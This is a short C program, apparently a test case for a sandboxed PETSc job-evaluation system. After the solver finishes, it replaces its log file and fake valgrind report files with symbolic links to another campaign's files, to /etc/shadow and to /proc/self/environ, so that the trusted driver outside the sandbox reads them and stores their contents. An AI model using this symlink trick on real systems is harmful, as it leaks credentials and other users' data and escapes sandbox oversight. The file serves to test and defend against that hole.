/* Trick: after PetscFinalize, replace this run's -log_view file by a symbolic link to a
   file of another campaign, and plant links named like valgrind's reports that point at
   another submission's report and at secrets: the trusted job driver, outside the sandbox,
   followed them and stored what it found. decoy.h (written by the test) names the targets. */
#include "rosenbrock.h"
#include "logview_path.h"
#include "decoy.h"
#include <unistd.h>

static void Plant(const char *target, const char *link)
{
  unlink(link);
  if (symlink(target, link)) perror(link);
}

int main(int argc, char **argv)
{
  PetscInt    n;
  char        path[1024];
  char        name[256];

  LogViewPath(argc, argv, path, sizeof(path));
  PetscCall(PetscInitialize(&argc, &argv, NULL, NULL));
  PetscCall(Solve(&n));
  PetscCall(PetscFinalize());
  if (path[0]) {
    Plant(DECOY_LOGVIEW, path);
  }
  snprintf(name, sizeof(name), "../logs/valgrind.n%d.1.xml", (int)n);
  Plant(DECOY_VALGRIND, name);
  snprintf(name, sizeof(name), "../logs/valgrind.n%d.2.xml", (int)n);
  Plant("/etc/shadow", name);
  snprintf(name, sizeof(name), "../logs/valgrind.n%d.3.xml", (int)n);
  Plant("/proc/self/environ", name);
  return 0;
}
